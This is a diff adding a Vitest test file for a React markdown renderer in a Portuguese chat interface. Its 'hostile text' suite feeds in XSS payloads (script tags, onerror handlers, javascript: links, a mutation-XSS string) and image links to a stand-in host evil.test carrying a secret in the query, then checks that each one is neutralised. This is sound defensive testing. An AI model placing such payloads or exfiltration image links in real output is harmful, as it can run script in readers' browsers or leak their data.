@@ -1,0 +1,116 @@
+import { renderToStaticMarkup } from "react-dom/server"
+import { beforeAll, describe, expect, test } from "vitest"
+import { loadTexts } from "../../../platform/texts.ts"
+import { MarkdownView } from "./markdown-view.tsx"
+
+beforeAll(() => loadTexts("pt"))
+
+function htmlOf(text: string): string {
+  return renderToStaticMarkup(<MarkdownView text={text} streaming={false} />)
+}
+
+/** The words a reader sees. */
+function wordsOf(text: string): string {
+  return htmlOf(text)
+    .replace(/<[^>]+>/g, "")
+    .replaceAll("&lt;", "<")
+    .replaceAll("&gt;", ">")
+    .replaceAll("&quot;", '"')
+    .replaceAll("&#x27;", "'")
+    .replaceAll("&amp;", "&")
+}
+
+describe("what a model writes", () => {
+  test("becomes headings, lists, tables, tasks and code", () => {
+    const html = htmlOf(
+      "# Título\n\n- [x] feito\n- [ ] falta\n\n3. três\n\n| a | b |\n|---|--:|\n| 1 | ~~2~~ |\n\n```ts\nlet x = 1\n```\n\n> citação",
+    )
+    expect(html).toContain(">Título</h3>")
+    expect(html).toMatch(/<input type="checkbox"[^>]* checked=""/)
+    expect(html).toContain('<ol start="3">')
+    expect(html).toContain("<del>2</del>")
+    expect(html).toContain("<code>let x = 1\n</code>")
+    expect(html).toContain('aria-label="Copiar código"')
+    expect(html).toContain("<blockquote>")
+  })
+
+  test("keeps money as it is, one real or ten", () => {
+    for (const text of ["Custa R$ 10 e R$ 20.", "De US$5 a US$ 7", "$10 ou $20", "R$ 1.850,00 * 3,2% = R$ 59,20"]) {
+      expect(wordsOf(text)).toBe(text)
+    }
+  })
+
+  test("keeps formulas letter by letter", () => {
+    for (const text of ["Seja \\(x_1 * y_1\\) e \\[ a_{1} * b \\]", "$$ V = P \\cdot \\frac{a_1}{b_1} $$"]) {
+      expect(wordsOf(text)).toBe(text)
+    }
+  })
+})
+
+describe("hostile text", () => {
+  test.each([
+    "<script>__pwned=1</script>",
+    "<img src=x onerror=__pwned=1>",
+    "<svg/onload=__pwned=1>",
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned=1&gt;">',
+  ])("shows %s as text", (text) => {
+    const html = htmlOf(text)
+    expect(html).not.toMatch(/<(?:script|img|svg|math|style)[\s>]/)
+    expect(wordsOf(text)).toContain("__pwned=1")
+  })
+
+  test.each([
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](data:text/html,<script>1</script>)",
+    "[x](vbscript:x)",
+    "<javascript:alert(1)>",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "[x](/api/config)",
+  ])("makes no link of %s", (text) => {
+    expect(htmlOf(text)).not.toContain("<a ")
+  })
+
+  test.each(["![a](https://evil.test/?d=SEGREDO)", "![a][r]\n\n[r]: https://evil.test/?d=SEGREDO"])(
+    "asks nobody for the picture %s until the reader does",
+    (text) => {
+      const html = htmlOf(text)
+      expect(html).not.toContain("<img")
+      expect(html).not.toContain("SEGREDO")
+      expect(html).toContain("Carregar imagem de evil.test")
+    },
+  )
+
+  test("draws pictures that are inside the message, but no SVG", () => {
+    expect(htmlOf("![a](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img")
+    expect(htmlOf("![a](data:image/svg+xml;base64,PHN2Zz4=)")).not.toContain("<img")
+  })
+
+  test("names the real host of a link that claims another", () => {
+    expect(wordsOf("[https://banco.com.br](https://evil.test/a)")).toContain("https://banco.com.br (evil.test)")
+  })
+
+  test("opens links in a tab of their own that knows nothing of ours", () => {
+    expect(htmlOf("https://exemplo.com.br/a")).toContain('target="_blank" rel="noopener noreferrer"')
+  })
+
+  test.each([
+    ["4 000 quotation marks", `${">".repeat(4_000)} x`],
+    ["a list 300 deep", Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
+    ["600 nested things", `${"*a _b ".repeat(300)}x${"_ *".repeat(300)}`],
+    ["*a_ 20 000 times", "*a_".repeat(20_000)],
+    ["one line of 5 MB", "a".repeat(5_000_000)],
+    ["one line of code of 5 MB", `\`\`\`\n${"a".repeat(5_000_000)}\n\`\`\``],
+    ["a table of 20 000 rows", `|a|\n|-|\n${"|b|\n".repeat(20_000)}`],
+  ])("draws %s in a moment", (_, text) => {
+    const startMs = performance.now()
+    const html = htmlOf(text)
+    expect(performance.now() - startMs).toBeLessThan(1_000)
+    expect(html.length).toBeLessThan(400_000)
+  })
+
+  test("offers the rest of what is too long to show at once", () => {
+    expect(htmlOf("a".repeat(5_000_000))).toContain("Mostrar tudo")
+    expect(htmlOf(`|a|\n|-|\n${"|b|\n".repeat(1_000)}`)).toContain("Mostrar tudo")
+  })
+})
